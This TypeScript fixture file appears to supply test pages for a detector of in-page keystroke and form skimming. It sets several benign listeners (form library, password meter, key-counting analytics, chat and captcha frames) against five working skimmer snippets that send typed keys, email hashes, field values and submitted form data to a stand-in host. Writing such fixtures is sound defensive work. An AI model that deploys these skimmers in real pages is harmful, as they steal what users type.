import { html, script } from '../../sites/server/answers.ts';

/** Scripts of a vendor that no list knows, each with one way to get at what people type. */
export const KEY_LOGGER = script(`
let typed = '';
document.addEventListener('focusin', () => { typed = ''; });
document.addEventListener('keydown', ({ key }) => {
  if (key.length > 1) return;
  typed += key;
  fetch('https://in.quietmetrics.test/k', { method: 'POST', body: JSON.stringify({ t: typed }) });
});`);

export const HANDLER_LOGGER = script(`
let typed = '';
window.onkeyup = ({ key }) => {
  typed = key.length > 1 ? '' : typed + key;
  if (typed.length > 7) navigator.sendBeacon('https://in.quietmetrics.test/k', btoa(unescape(encodeURIComponent(typed))));
};`);

export const FORM_READER = script(`
const hash = async text => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))].map(it => it.toString(16).padStart(2, '0')).join('');
document.addEventListener('focusout', async ({ target }) => {
  if (target.type !== 'email' || target.value === '') return;
  navigator.sendBeacon('https://in.quietmetrics.test/e', JSON.stringify({ em: await hash(target.value.trim().toLowerCase()) }));
});`);

export const POLLER = script(`
const seen = new Map();
const look = () => {
  for (const it of document.querySelectorAll('input')) {
    if (it.type === 'password' || it.value.length < 8 || seen.get(it.name) === it.value) continue;
    seen.set(it.name, it.value);
    new Image().src = 'https://in.quietmetrics.test/p.gif?f=' + it.name + '&v=' + encodeURIComponent(it.value);
  }
};
setInterval(look, 250);`);

export const SUBMIT_READER = script(`
document.addEventListener('submit', ({ target }) => {
  const data = new FormData(target);
  data.delete('password');
  navigator.sendBeacon('https://in.quietmetrics.test/s', new URLSearchParams([...data]));
}, true);`);

/** A form library, as it lies on hosts that serve libraries to everybody: it listens where a site's own script asks it to. */
export const CDN_FORMS = script(`
globalThis.forms = {
  watch(root, heard) { for (const type of ['keydown', 'input', 'change', 'paste', 'focusout']) root.addEventListener(type, event => heard(event.target, event.target.value)); },
};`);

/** Scripts of the shop's own. */
export const OWN_APP = script(`
forms.watch(document.querySelector('form'), (field, value) => { field.classList.toggle('filled', Boolean(value)); });`);

export const METER = script(`
const field = document.querySelector('[type=password]');
const meter = Object.assign(document.createElement('meter'), { max: 4 });
field.after(meter);
field.addEventListener('input', () => { meter.value = [/.{10}/, /[A-Z]/, /\\d/, /\\W/].filter(it => it.test(field.value)).length; });`);

export const FORM_LIBRARY = script(`
const form = document.querySelector('form');
const check = field => { field.setAttribute('aria-invalid', String(!field.checkValidity() || field.value.length < 2)); };
for (const type of ['input', 'change', 'focusout', 'keydown', 'paste']) form.addEventListener(type, ({ target }) => { if ('value' in target) check(target); });
let timer;
form.addEventListener('input', () => {
  clearTimeout(timer);
  timer = setTimeout(() => fetch('/draft', { method: 'POST', body: new URLSearchParams([['city', form.elements.city.value]]) }), 300);
});`);

export const OWN_ANALYTICS = script(`
let keys = 0;
document.addEventListener('keydown', () => { keys += 1; });
document.addEventListener('visibilitychange', () => navigator.sendBeacon('https://stats.orchard-shop.test/v', JSON.stringify({ path: location.pathname, keys })));
fetch('https://stats.orchard-shop.test/v?path=' + encodeURIComponent(location.pathname));`);

export const SHORTCUTS = script(`
document.addEventListener('keydown', ({ key, ctrlKey }) => { if (ctrlKey && key === 'k') document.querySelector('input').focus(); });`);

/** Pages of other companies, each with its own field, in a frame of its own. */
export const CHAT_FRAME = html(`<!doctype html><title>Chat</title><link rel="icon" href="data:,"><textarea aria-label="Write to us"></textarea>
<script src="https://widget.parlo-chat.test/frame.js"></script>`);

export const CHAT_SCRIPT = script(`
const field = document.querySelector('textarea');
for (const type of ['keydown', 'input', 'paste', 'blur']) field.addEventListener(type, () => { document.title = 'Chat: ' + field.value.length; });
document.addEventListener('keydown', ({ key }) => { if (key === 'Escape') field.blur(); });
fetch('https://widget.parlo-chat.test/ready');`);

export const CHAT_LOADER = script(`
document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://widget.parlo-chat.test/frame', title: 'Chat' }));`);

export const CAPTCHA_FRAME = html(`<!doctype html><title>Are you a person?</title><link rel="icon" href="data:,"><label>The letters you see <input name="letters" autocomplete="off"></label>
<script src="https://check.plainproof.test/frame.js"></script>`);

export const CAPTCHA_SCRIPT = script(`
const field = document.querySelector('input');
field.addEventListener('input', () => { parent.postMessage({ letters: field.value.length }, '*'); });
fetch('https://check.plainproof.test/ready');`);

export const CAPTCHA_LOADER = script(`
document.querySelector('form').append(Object.assign(document.createElement('iframe'), { src: 'https://check.plainproof.test/frame', title: 'Are you a person?' }));
addEventListener('message', ({ origin }) => { if (origin === 'https://check.plainproof.test') document.documentElement.dataset.checked = 'yes'; });`);

export const CONSENT_BANNER = script(`
const banner = document.body.appendChild(document.createElement('div'));
banner.innerHTML = '<p>May we count visits?</p><button>Yes</button><button>No</button>';
banner.addEventListener('click', ({ target }) => { if (target.tagName === 'BUTTON') banner.remove(); });
addEventListener('scroll', () => { banner.style.bottom = '0'; }, { passive: true });`);
